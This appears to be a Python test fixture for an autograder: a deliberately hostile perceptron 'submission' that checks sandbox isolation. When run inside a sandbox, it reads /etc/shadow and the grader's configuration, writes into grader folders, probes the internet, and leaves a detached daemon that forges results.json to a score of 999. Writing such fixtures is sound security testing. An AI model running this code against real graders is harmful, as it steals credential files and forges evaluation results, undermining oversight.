"""Hostile, as a student attacking a platform's grader would be: it looks for the grader's
folders (Gradescope's /autograder, PrairieLearn's /grade, and whatever root a grader's command
line names), reads its configuration, /etc/shadow and the results folder, writes into the
source and results folders, tries the internet, and leaves a daemon that rewrites results.json
to a score of 999 for a while after the run.  It reports on stderr what it managed (the
tests read the grader's files and results too).  Then it returns a wrong answer whose first
weight counts what it managed (the counterexample's "got w" shows it)."""

import contextlib
import os
import socket
import subprocess
import sys
from pathlib import Path
from typing import Any

MARKER = "perceptron-ref-hostile-grader"
FORGED = '{"score": 999, "gradable": true, "output": "forged", "tests": []}\n'


def _roots() -> list[Path]:
    roots = [Path("/autograder"), Path("/grade")]
    for entry in Path("/proc").iterdir():  # a grader's command line names its root
        with contextlib.suppress(OSError):
            words = (entry / "cmdline").read_bytes().split(b"\0")
            if b"perceptron_ref.grading.autograder" in words:
                at = words.index(b"perceptron_ref.grading.autograder")
                roots.append(Path(words[at + 2].decode()))
    return roots


def _forge(roots: list[Path]) -> None:
    """The daemon: rewrites every results.json it can, now and for a while."""
    for _ in range(80):
        for root in roots:
            with contextlib.suppress(OSError):
                (root / "results" / "results.json").write_text(FORGED)
        __import__("time").sleep(0.1)


def train(X: Any, y: Any) -> Any:
    if os.environ.get("PERCEPTRON_REF_SANDBOX", "none") == "none":
        return [0.0] * len(X[0])  # the safety catch: it attacks only inside a sandbox
    roots = _roots()
    managed = []
    for path in [Path("/etc/shadow"), *(r / "source" / "autograder.json" for r in roots)]:
        with contextlib.suppress(OSError):
            managed.append(f"read {path}: {path.read_text()[:40]!r}")
    for root in roots:
        for folder in ("source", "results", "submission", "tests", "student"):
            with contextlib.suppress(OSError):
                managed.append(f"listed {root / folder}: {os.listdir(root / folder)}")
            with contextlib.suppress(OSError):
                (root / folder / MARKER).write_text("written by a hostile candidate\n")
                managed.append(f"wrote {root / folder / MARKER}")
        with contextlib.suppress(OSError):
            (root / "results" / "results.json").write_text(FORGED)
            managed.append(f"forged {root / 'results' / 'results.json'}")
    for host in (("1.1.1.1", 80), ("pypi.org", 443)):
        with contextlib.suppress(OSError), socket.create_connection(host, 2):
            managed.append(f"reached {host}")
    code = (
        "import sys; sys.path.insert(0, sys.argv[2]); import hostile_grader as h; "
        "from pathlib import Path; h._forge([Path(p) for p in sys.argv[3:]])"
    )
    folder = str(Path(__file__).resolve().parent)
    with contextlib.suppress(OSError):
        subprocess.Popen(
            [sys.executable, "-c", code, MARKER, folder, *map(str, roots)],
            start_new_session=True,
            stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
    print("\n".join(managed) or "managed nothing", file=sys.stderr)
    # What it managed, where the grader shows it: the first weight (0 when it managed nothing).
    return [float(len(managed))] + [0.0] * (len(X[0]) - 1)
